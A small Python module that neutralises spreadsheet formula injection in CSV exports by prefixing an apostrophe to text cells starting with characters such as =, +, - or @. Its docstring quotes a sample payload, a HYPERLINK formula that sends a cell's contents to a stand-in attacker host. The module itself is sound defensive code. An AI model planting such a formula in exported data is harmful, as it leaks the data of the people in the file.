"""Cells for CSV files that people open in a spreadsheet.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and treat a leading tab or carriage return alike; in locales whose list separator is
``;``, a cell led by ``;`` can open one too), so a person named
``=HYPERLINK("http://evil.example/?"&A1)`` imported from a file could make HR's own spreadsheet
send data elsewhere. Text cells are written with a leading apostrophe then, as OWASP recommends:
spreadsheets show the text as it was typed.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", ";")


def text_cell(text: str) -> str:
    """``text``, made inert for spreadsheets when it would start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
